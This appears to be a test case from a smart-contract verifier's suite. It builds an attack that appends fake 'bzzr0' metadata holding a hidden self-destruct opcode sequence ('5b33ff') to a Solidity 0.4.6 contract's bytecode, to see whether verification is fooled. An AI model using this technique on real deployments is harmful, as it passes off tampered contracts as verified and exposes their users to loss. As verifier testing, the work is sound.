import { expect } from "vitest";
import { hexConcat } from "../../../src/core/evm/hex.ts";
import type { Attack, Program } from "./attack.ts";
import { metadataOf, text } from "./attack-world.ts";

const program: Program = {
  compiler: "0.4.6",
  sources: {
    "Bank.sol": `pragma solidity ^0.4.0;
contract Bank {
    function kind() constant returns (uint) { return 7; }
    function() payable { if (!address(0xaabbccddeeff00112233445566778899aabbccdd).send(msg.value)) throw; }
}`,
  },
  contract: "Bank.sol:Bank",
};

const attack: Attack = {
  title: "releases before 0.4.7 wrote no metadata: what reads as such behind their code is code",
  attack: async (world) => {
    const { runtime } = await world.compile(program);
    const planted = metadataOf(`65${text("bzzr0")}5820${"5b33ff".padEnd(64, "0")}`, 1);
    return world.verify(program, await world.predeploy(hexConcat(`0x${runtime}`, planted)));
  },
  honest: async (world) => {
    const { creation } = await world.compile(program);
    return world.verify(program, await world.deploy(`0x${creation}`));
  },
  reaches: "partial",
  check: (_attacked, { source }) => {
    expect(source).toMatchObject({ filePath: "Bank.sol", sources: [{ path: "Bank.sol" }] });
  },
};

export default attack;
